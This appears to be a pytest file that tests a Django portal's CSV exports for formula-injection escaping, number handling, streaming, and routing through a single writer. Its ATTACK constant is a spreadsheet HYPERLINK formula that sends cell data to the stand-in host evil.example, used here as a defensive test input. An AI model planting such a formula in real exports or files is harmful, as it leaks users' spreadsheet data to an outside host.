"""CSV exports: one writer (portal/csv.py), formula cells escaped, numbers kept as numbers, streamed."""
import csv as stdlib_csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.http import StreamingHttpResponse

from portal import csv
from tests.factories import ChargeFactory, ChargePointFactory, SiteFactory, WalletTransactionFactory

ROOT = Path(__file__).resolve().parents[2]
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value,written", [
    (ATTACK, "'" + ATTACK), ("+45 20 00 00 01", "'+45 20 00 00 01"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""),
    (Decimal("-12.50"), Decimal("-12.50")), (-3, -3), (True, "True"),
])
def test_cells(value, written):
    assert csv.cell(value) == written


def _rows(response):
    assert isinstance(response, StreamingHttpResponse)  # streamed, never built in memory
    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff")
    return list(stdlib_csv.reader(io.StringIO(body.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_charges_export_escapes_formula_cells_and_keeps_negative_amounts(admin_client, operator):
    site = SiteFactory(operator=operator, name="@SUM(1+1)")
    point = ChargePointFactory(operator=operator, site=site, name="+Harbour", evse_id="DK*TST*E1")
    ChargeFactory(operator=operator, charge_point=point, external_id=ATTACK, price=Decimal("-100.00"),
                  vat_amount=Decimal("-20.00"), consumed_kwh=Decimal("-20.500"), failure_reason="-1+1")
    header, row = _rows(admin_client.get(f"/o/{operator.slug}/charges/?format=csv"))
    values = dict(zip(header, row, strict=True))
    assert values["external_id"] == "'" + ATTACK
    assert (values["site"], values["charge_point"], values["failure_reason"]) == ("'@SUM(1+1)", "'+Harbour", "'-1+1")
    assert (values["price"], values["vat_amount"], values["consumed_kwh"]) == ("-100.00", "-20.00", "-20.500")


@pytest.mark.django_db
def test_wallet_export_escapes_formula_cells_and_keeps_negative_amounts(admin_client, operator):
    WalletTransactionFactory(operator=operator, amount=Decimal("-4.50"), note="=1+2", reference="@ref")
    header, row = _rows(admin_client.get(f"/o/{operator.slug}/wallet/?format=csv"))
    values = dict(zip(header, row, strict=True))
    assert (values["note"], values["reference"]) == ("'=1+2", "'@ref")
    assert (values["amount"], values["balance_after"]) == ("-4.50", "-4.50")


def test_every_export_uses_the_one_writer():
    """No module writes CSV by itself: a new export goes through portal/csv.py and is escaped."""
    offenders = []
    apps = [d for d in ROOT.iterdir() if (d / "__init__.py").exists() and d.name != "tests"]
    for path in (p for app in apps for p in app.rglob("*.py")):
        if path == ROOT / "portal" / "csv.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text()):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
